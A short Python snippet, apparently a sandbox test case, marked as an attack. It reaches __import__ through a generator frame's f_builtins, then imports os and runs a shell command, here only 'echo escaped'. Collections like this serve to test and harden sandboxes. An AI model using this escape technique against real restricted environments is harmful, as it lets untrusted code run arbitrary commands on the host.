# attack: reach __import__ from the builtins of an outer frame
def gen():
    yield 1


g = gen()
b = g.gi_frame.f_builtins
b["__import__"]("os").system("echo escaped")
